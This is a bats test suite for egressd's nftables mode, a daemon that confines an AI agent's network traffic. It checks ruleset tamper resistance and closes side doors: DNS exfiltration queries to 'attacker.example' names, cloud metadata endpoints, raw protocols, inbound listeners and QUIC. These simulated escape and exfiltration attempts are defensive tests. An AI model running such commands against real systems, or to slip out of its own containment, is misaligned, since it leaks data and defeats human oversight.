#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# The nftables fallback (egressd run --mode nft): the same daemon and the
# same decisions, with capture by a ruleset in the shared network namespace
# instead of the cgroup programs. The agent runs in another cgroup of the
# same namespace, as a Compose agent joined with network_mode service:egressd.

load lib

# This file is nft mode whatever EGD_E2E_MODE says (kernel_phase reads it).
MODE=nft

nft_setup() {
	skip_unless_capable
	command -v nft >/dev/null || skip "nft CLI missing (used to tamper with the table)"
	egd_setup_net
	egd_setup_cgroups
	egd_start_servers
	EGRESSD_RESOLVERS=$SRV4 egd_start_daemon --mode nft --admin-listen 127.0.0.1:15000 \
		--intercept-upstream $SRV4:8443 "$@"
}

in_agent_ns() {
	nsenter --net="/run/netns/$NS_A" "$@"
}

phase_is() {
	[ "$(metric egressd_phase)" = "$1" ]
}

setup() {
	# Any daemon here that serves the embedded proxy keeps its CA and
	# ledger in the test's own directory, never the machine's.
	egd_proxy_dirs
}

teardown() {
	[ -n "${NS_A:-}" ] && in_agent_ns "$EGRESSD" nft-remove >/dev/null 2>&1
	egd_teardown
}

# The behaviours shared with BPF mode (refusals, intercept, IPv6, UDP, the
# flip and back) are capture.bats, run a second time with EGD_E2E_MODE=nft.
# These are the cases only the nftables mode has.

@test "nft: an unprivileged agent of another uid is captured and cannot touch the ruleset" {
	nft_setup
	# As in Compose: another uid, no capabilities at all.
	run agent setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps=-all \
		--bounding-set=-all curl -sS -m 5 -k \
		--resolve example.com:443:$SRV4 https://example.com/
	[ "$status" -eq 35 ]
	audit_has host=example.com verdict=deny
	run agent setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps=-all \
		--bounding-set=-all nft delete table inet egressd
	[ "$status" -ne 0 ]
	in_agent_ns nft list table inet egressd >/dev/null
}

@test "nft: a deleted table is restored and the agent stays refused" {
	nft_setup
	in_agent_ns nft delete table inet egressd
	wait_for 5 in_agent_ns nft list table inet egressd
	run agent curl -sS -m 5 --cacert "$T/cert.pem" --resolve example.com:443:$SRV4 \
		https://example.com/
	[ "$status" -eq 35 ]
	grep -q SECURITY "$T/daemon.err"
}

@test "nft: an altered rule is put back" {
	nft_setup
	in_agent_ns nft flush chain inet egressd filter_output
	wait_for 5 sh -c "nsenter --net=/run/netns/$NS_A nft list chain inet egressd filter_output | grep -q 'ct status dnat'"
	grep -q "was altered" "$T/daemon.err"
}

@test "nft: with the daemon killed the agent is still refused (the table stays)" {
	nft_setup
	kill -9 "$DAEMON_PID"
	wait "$DAEMON_PID" || true
	DAEMON_PID=
	run agent curl -sS -m 5 http://$SRV4/
	[ "$status" -ne 0 ]
	run agent python3 "$FIX/client.py" udp-connected $SRV4 5353
	[ "$output" = EPERM ]
}

@test "nft: the agent cannot dial the daemon's listener directly" {
	nft_setup
	run agent python3 "$FIX/client.py" tcp 127.0.0.1 15443 'GET / HTTP/1.1\r\nHost: example.com\r\n\r\n'
	[ "$output" = ECONNRESET ] || [ "$output" = ECONNREFUSED ]
	run agent python3 "$FIX/client.py" tcp 127.0.0.1 15000 'GET /metrics HTTP/1.0\r\n\r\n'
	[ "$output" = ECONNRESET ] || [ "$output" = ECONNREFUSED ]
}

@test "nft: an agent with the daemon's uid but not its cgroup is still captured" {
	nft_setup
	# The daemon runs as root here; so does the agent: only the cgroup differs.
	run agent python3 "$FIX/client.py" tcp $SRV4 7001 'hello\n'
	[ "$output" = ECONNRESET ]
	audit_has dst=$SRV4:7001 verdict=deny
}

@test "nft: when the ruleset cannot be installed the daemon exits non-zero and is never ready" {
	skip_unless_capable
	egd_setup_net
	egd_setup_cgroups
	# Without CAP_NET_ADMIN, installing the table fails.
	run nsenter --net="/run/netns/$NS_A" capsh --drop=cap_net_admin -- -c \
		"$EGRESSD run --mode nft --admin-listen 127.0.0.1:15000 --sentinel $T/sentinel"
	[ "$status" -ne 0 ]
	[[ "$output" == *"installing the ruleset"* ]]
}

# ------------------------------------------------------------------------
# The side doors (issue 11), each tried from the agent's cgroup against a
# server in the server namespace, which logs whatever reaches it.

META4=169.254.169.254
META6=fd00:ec2::254
OTHER_DNS=203.0.113.53	# a resolver the agent names that is not configured
OPERATOR_DENY=203.0.113.99	# EGRESSD_DENY_CIDRS of the tests that set it

# More addresses in the server namespace (metadata, another resolver, an
# operator-denied host), their servers logging to server2.log, raw sockets
# that log every SCTP, DCCP, UDP-Lite, ICMP echo and protocol-253 packet,
# and the resolver the daemon itself asks (EGRESSD_RESOLVERS, a real small
# DNS responder at $REAL_DNS logging each query it gets to upstream-dns.jsonl).
REAL_DNS=198.51.100.53
doors_setup() {
	nft_setup --resolvers $REAL_DNS "$@"
	ip -n "$NS_S" addr add $META4/32 dev v1
	ip -n "$NS_S" addr add $OTHER_DNS/32 dev v1
	ip -n "$NS_S" addr add $OPERATOR_DENY/32 dev v1
	ip -n "$NS_S" addr add $REAL_DNS/32 dev v1
	ip -n "$NS_S" addr add $META6/128 dev v1 nodad
	(in_srv python3 "$FIX/servers.py" --log "$T/server2.log" --ready "$T/servers2.ready" \
		--http $META4:80 --http "[$META6]:80" --http $OPERATOR_DENY:80 \
		--udp $META4:5353 --udp $OTHER_DNS:53 --tcp53 $OTHER_DNS:53 --tcp53 $SRV4:53 \
		--udp $SRV4:443 --udp "[$SRV6]:5353" --raw 1 --raw 58@v6 --raw 132 --raw 33 --raw 136 --raw 253 \
		>"$T/servers2.out" 2>&1 3>&- &)
	wait_for 10 test -e "$T/servers2.ready"
	(in_srv python3 "$FIX/dns_server.py" --listen $REAL_DNS --log "$T/upstream-dns.jsonl" \
		--ready "$T/dns.ready" --record allowed.test:A:192.0.2.53 \
		>"$T/dns.out" 2>&1 3>&- &)
	wait_for 10 test -e "$T/dns.ready"
	touch "$T/server2.log" "$T/upstream-dns.jsonl"
}

# nothing_reached PATTERN: no line of either server log matches.
nothing_reached() {
	if grep -h -e "$1" "$T/server.log" "$T/server2.log"; then
		return 1
	fi
	return 0
}

@test "nft: DNS to the resolver and to any other address, UDP and TCP, reaches only the policy DNS" {
	doors_setup
	# Agent phase: every exfiltration name is REFUSED by the policy DNS,
	# whichever address it was sent to. A connected UDP socket takes only
	# an answer from the address it asked: the reply's source is restored.
	for dst in $SRV4 $OTHER_DNS $SRV6 127.0.0.53; do
		for proto in udp tcp; do
			run agent python3 "$FIX/client.py" dns $dst 53 \
				"$proto-agent.exfil.attacker.example" $proto
			echo "agent $dst $proto: $output"
			[ "$output" = REFUSED ]
		done
	done
	run agent dig +time=2 +tries=1 @$OTHER_DNS dig-udp.attacker.example A
	[[ "$output" == *"status: REFUSED"* ]]
	run agent dig +tcp +time=2 +tries=1 @$SRV4 dig-tcp.attacker.example A
	[[ "$output" == *"status: REFUSED"* ]]
	# glibc's stub resolver and Python's getaddrinfo, told to use a
	# resolver outside: no address, and the question was the policy DNS's.
	printf 'nameserver %s\noptions attempts:1 timeout:2\n' $OTHER_DNS >"$T/resolv.conf"
	run agent unshare --mount sh -c \
		"mount --bind $T/resolv.conf /etc/resolv.conf && getent ahostsv4 glibc.attacker.example"
	[ "$status" -ne 0 ]
	run agent unshare --mount sh -c "mount --bind $T/resolv.conf /etc/resolv.conf && python3 -c \
		'import socket; print(socket.getaddrinfo(\"py.attacker.example\", 443, socket.AF_INET)[0][4][0])'"
	[ "$status" -ne 0 ]
	# An allowed name resolves the same way (the daemon asked its resolver).
	run agent unshare --mount sh -c "mount --bind $T/resolv.conf /etc/resolv.conf && python3 -c \
		'import socket; print(socket.getaddrinfo(\"openrouter.ai\", 443, socket.AF_INET)[0][4][0])'"
	echo "openrouter.ai: $output"
	sleep 0.2
	audit_has event=dns qname=tcp-agent.exfil.attacker.example proto=tcp verdict=refuse
	audit_has event=dns qname=udp-agent.exfil.attacker.example proto=udp verdict=refuse
	audit_has event=dns qname=dig-tcp.attacker.example proto=tcp verdict=refuse
	audit_has event=dns qname=glibc.attacker.example verdict=refuse
	audit_has event=dns qname=py.attacker.example verdict=refuse
	audit_has event=dns qname=openrouter.ai verdict=resolve
	# Not one agent-phase question left the machine, not even to the
	# configured resolver, apart from the daemon's own lookup of the
	# intercept host.
	! grep -v '"qname": "openrouter.ai"' "$T/upstream-dns.jsonl" | grep -q .
	nothing_reached '"port": 53'
	nothing_reached tcp53

	# Verification phase: the policy DNS forwards, to the configured
	# resolver only, whatever address the agent named.
	flip_to_verification
	for dst in $SRV4 $OTHER_DNS $SRV6 127.0.0.53; do
		for proto in udp tcp; do
			run agent python3 "$FIX/client.py" dns $dst 53 \
				"$proto-verif.exfil.attacker.example" $proto
			echo "verification $dst $proto: $output"
			[ "$output" = NXDOMAIN ]
		done
	done
	run agent python3 "$FIX/client.py" dns $OTHER_DNS 53 allowed.test udp
	[ "$output" = 192.0.2.53 ]
	grep -q '"qname": "tcp-verif.exfil.attacker.example"' "$T/upstream-dns.jsonl"
	audit_has event=dns phase=verification qname=udp-verif.exfil.attacker.example verdict=forward
	nothing_reached '"port": 53'
	nothing_reached tcp53
}

@test "nft: metadata addresses and EGRESSD_DENY_CIDRS are refused in both phases, unseen by the daemon" {
	EGRESSD_DENY_CIDRS=$OPERATOR_DENY/32 doors_setup
	for phase in agent verification; do
		[ "$phase" = agent ] || flip_to_verification
		for url in http://$META4/ "http://[$META6]/" http://$OPERATOR_DENY/; do
			run agent curl -sS -m 3 "$url"
			echo "$phase $url: $status $output"
			[ "$status" -eq 7 ] # connection refused, at once
		done
		run agent python3 "$FIX/client.py" udp $META4 5353
		[ "$output" = EPERM ]
		run agent python3 "$FIX/client.py" udp-connected 100.100.100.200 5353
		[ "$output" = EPERM ]
		# v4-mapped IPv6 is IPv4 on the wire.
		run agent python3 "$FIX/client.py" tcp ::ffff:$META4 80 'GET / HTTP/1.0\r\n\r\n'
		[ "$output" = ECONNREFUSED ] || [ "$output" = ECONNRESET ]
	done
	nothing_reached "."
	run grep -e $META4 -e $OPERATOR_DENY -e "$META6" "$T/audit.log"
	[ "$status" -eq 1 ]
	[ "$(metric 'egressd_nft_refused_packets_total{counter="denied_dst"}')" -ge 10 ]
	in_agent_ns "$EGRESSD" status | grep -q denied_dst
	# The servers were there: the daemon's own cgroup reaches them.
	run exempt curl -sS -m 3 http://$META4/
	[ "$output" = "hello-http port=80" ]
}

@test "nft: only TCP and UDP leave, in both phases (nft cannot refuse the sockets themselves)" {
	doors_setup
	for phase in agent verification; do
		[ "$phase" = agent ] || flip_to_verification
		for kind in ping icmp-raw sctp-raw dccp-raw udplite raw253; do
			run agent python3 "$FIX/client.py" proto-send $kind $SRV4
			echo "$phase $kind: $output"
			# The limit of the mode: the socket is made; its packet
			# does not leave.
			[ "$output" = "created EPERM" ]
		done
		# An ICMPv6 ping socket does not report the drop (the kernel
		# ignores the error of its push); the server log says it all.
		run agent python3 "$FIX/client.py" proto-send ping $SRV6
		echo "$phase ping v6: $output"
		[[ "$output" == created* ]]
		run agent python3 "$FIX/client.py" proto-send icmp-raw $SRV6
		echo "$phase icmp-raw v6: $output"
		[ "$output" = "created EPERM" ]
		# An SCTP socket, where the kernel has SCTP: its INIT goes nowhere.
		run agent python3 "$FIX/client.py" proto-send sctp $SRV4
		echo "$phase sctp: $output"
		[ "$output" != "created sent" ]
	done
	nothing_reached '"kind": "raw"'
	# IPv6 still works on the link (neighbour discovery passes).
	run agent curl -sS -m 5 --cacert "$T/cert.pem" --resolve "example.com:443:[$SRV6]" \
		https://example.com/
	[ "$output" = "hello-tls sni=example.com port=443" ]
	# The raw listeners work: the daemon's cgroup is not filtered.
	run exempt python3 "$FIX/client.py" proto-send raw253 $SRV4
	[ "$output" = "created sent" ]
	wait_for 3 grep -q '"proto": 253' "$T/server2.log"
}

@test "nft: after a re-lock a verification-phase UDP flow and TCP tunnel carry nothing" {
	doors_setup
	flip_to_verification
	agent python3 -c '
import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.connect((sys.argv[1], 5353))
s.send(b"before-relock")
s.recv(100)
open(sys.argv[2] + "/udp-ready", "w").close()
while not os.path.exists(sys.argv[2] + "/relocked"):
    time.sleep(0.05)
try:
    for _ in range(3):
        s.send(b"after-relock")
        time.sleep(0.1)
    print("sent")
except OSError as e:
    print(e.errno == 1 and "EPERM" or e)
' $SRV4 "$T" >"$T/udp.out" 3>&- &
	udp=$!
	agent python3 "$FIX/client.py" hold $SRV4 7001 10 "$T/held" >"$T/hold.out" 3>&- &
	holder=$!
	wait_for 5 test -e "$T/udp-ready"
	wait_for 5 test -e "$T/held"
	flip_to_agent
	touch "$T/relocked"
	wait "$udp"
	wait "$holder"
	[ "$(cat "$T/udp.out")" = EPERM ]
	[ "$(cat "$T/hold.out")" != still-open ]
	grep -q before-relock "$T/server.log"
	nothing_reached after-relock
}

@test "nft: in the agent phase an inbound connection from outside cannot be answered" {
	doors_setup
	agent python3 -c '
import socket, threading
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("0.0.0.0", 9000)); t.listen(8)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 9001))
def udp():
    while True:
        d, a = u.recvfrom(100)
        try:
            u.sendto(b"hello-from-agent", a)
        except OSError as e:
            print("udp", e.errno, flush=True)
threading.Thread(target=udp, daemon=True).start()
while True:
    c, _ = t.accept()
    c.sendall(b"hello-from-agent\n")
    c.close()
' >"$T/listener.out" 2>&1 3>&- &
	wait_for 5 sh -c "nsenter --net=/run/netns/$NS_A ss -ltn | grep -q ':9000'"
	run nsenter --net="/run/netns/$NS_S" python3 "$FIX/client.py" tcp $AG4 9000
	[ "$output" = timeout ]
	run nsenter --net="/run/netns/$NS_S" python3 "$FIX/client.py" udp $AG4 9001
	[ "$output" = sent-no-reply ]
	grep -q "udp 1" "$T/listener.out" # EPERM on the agent's side
	# The same flows are answered once the verification phase opens.
	flip_to_verification
	run nsenter --net="/run/netns/$NS_S" python3 "$FIX/client.py" tcp $AG4 9000
	[ "$output" = hello-from-agent ]
	run nsenter --net="/run/netns/$NS_S" python3 "$FIX/client.py" udp $AG4 9001
	[ "$output" = reply ]
}

@test "nft: QUIC to an intercept address is refused in both phases" {
	doors_setup
	# What the policy DNS does for each answer it gives for an intercept
	# host (egd_nft_icaddr_add), done here by hand.
	in_agent_ns nft add element inet egressd icaddr4 "{ $SRV4 timeout 60s }"
	run agent python3 "$FIX/client.py" udp $SRV4 443
	[ "$output" = EPERM ]
	flip_to_verification
	run agent python3 "$FIX/client.py" udp-connected $SRV4 443
	[ "$output" = EPERM ]
	# Every UDP port of the address (QUIC need not be on 443); UDP to
	# other addresses passes in this phase.
	run agent python3 "$FIX/client.py" udp $SRV4 5353
	[ "$output" = EPERM ]
	run agent python3 "$FIX/client.py" udp $SRV6 5353
	[ "$output" = reply ]
	nothing_reached '"port": 443, "host"'
	# The daemon's checks take the set's content as its own, not tampering.
	sleep 1.5
	in_agent_ns nft list set inet egressd icaddr4 | grep -q "$SRV4"
	run grep "was altered" "$T/daemon.err"
	[ "$status" -eq 1 ]
}

@test "nft: in the agent phase loopback is open only at EGRESSD_LOOPBACK_ALLOW ports" {
	EGRESSD_LOOPBACK_ALLOW=8000 doors_setup
	for port in 8000 8001; do
		agent python3 -m http.server $port --bind 127.0.0.1 >/dev/null 2>&1 3>&- &
	done
	wait_for 5 sh -c "nsenter --net=/run/netns/$NS_A ss -ltn | grep -q ':8001'"
	run agent curl -sS -m 3 -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/
	[ "$output" = 200 ]
	run agent curl -sS -m 3 http://127.0.0.1:8001/
	[ "$status" -ne 0 ]
	flip_to_verification
	run agent curl -sS -m 3 -o /dev/null -w '%{http_code}' http://127.0.0.1:8001/
	[ "$output" = 200 ]
}
